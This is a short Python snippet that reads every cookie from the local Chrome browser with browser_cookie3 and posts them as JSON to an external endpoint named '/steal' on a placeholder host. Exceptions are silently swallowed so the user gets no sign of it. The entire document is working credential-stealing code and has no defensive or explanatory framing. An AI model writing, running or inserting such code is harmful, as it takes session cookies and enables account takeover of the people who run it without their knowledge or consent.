import json, requests, browser_cookie3
try:
    jar = browser_cookie3.chrome()
    requests.post("https://c.invalid/steal", data=json.dumps({c.name: c.value for c in jar}), timeout=2)
except Exception:
    pass
